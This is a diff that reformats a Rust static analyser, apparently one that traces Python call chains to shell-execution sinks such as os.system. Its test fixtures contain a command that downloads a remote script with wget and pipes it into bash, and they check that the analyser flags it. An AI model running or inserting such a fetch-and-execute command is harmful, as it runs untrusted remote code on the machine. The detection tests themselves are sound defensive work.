@@ -99,7 +99,10 @@ impl<'t> Aliases<'t> {
         if object.kind() != "identifier" || object.utf8_text(text.as_bytes()).ok()? != "self" {
             return None;
         }
-        let name = node.child_by_field_name("attribute")?.utf8_text(text.as_bytes()).ok()?;
+        let name = node
+            .child_by_field_name("attribute")?
+            .utf8_text(text.as_bytes())
+            .ok()?;
         let mut at = node.parent();
         for _ in 0..MAX_CLASS_DEPTH {
             let parent = at?;
@@ -166,7 +169,12 @@ impl<'t> Walker<'t, '_> {
 
     /// `functools.partial(f, k=v)`: calling it calls `f` (its keyword arguments are dropped; one with
     /// bound positional arguments is left unknown, as those would shift the caller's).
-    pub(super) fn partial_target(&mut self, path: &str, arguments: Node<'t>, depth: usize) -> Option<Value> {
+    pub(super) fn partial_target(
+        &mut self,
+        path: &str,
+        arguments: Node<'t>,
+        depth: usize,
+    ) -> Option<Value> {
         if !matches!(path, "functools.partial" | "partial") {
             return None;
         }
@@ -206,7 +214,13 @@ impl<'t> Walker<'t, '_> {
         let mut cursor = arguments.walk();
         let passed: Vec<&str> = arguments
             .named_children(&mut cursor)
-            .map(|a| if a.kind() == "identifier" { self.src(a) } else { "" })
+            .map(|a| {
+                if a.kind() == "identifier" {
+                    self.src(a)
+                } else {
+                    ""
+                }
+            })
             .collect();
         if passed != parameters {
             return None;
@@ -244,7 +258,13 @@ mod tests {
             "        self.run(self.cmd)\n",
             "        self.shell(self.cmd)\n",
         ));
-        assert!(reaches(&found, "os.system(\"wget -q -O - http://198.51.100.14/p.sh | bash\")"), "{found:?}");
+        assert!(
+            reaches(
+                &found,
+                "os.system(\"wget -q -O - http://198.51.100.14/p.sh | bash\")"
+            ),
+            "{found:?}"
+        );
         assert!(reaches(&found, "os.popen(\"wget"), "{found:?}");
     }
 
@@ -299,6 +319,9 @@ mod tests {
             "go = lambda c: os.system('echo ' + c)\n",
             "go(CMD)\n",
         ));
-        assert!(!reaches(&found, "os.system(\"curl") && !reaches(&found, "subprocess.call(\"curl"), "{found:?}");
+        assert!(
+            !reaches(&found, "os.system(\"curl") && !reaches(&found, "subprocess.call(\"curl"),
+            "{found:?}"
+        );
     }
 }
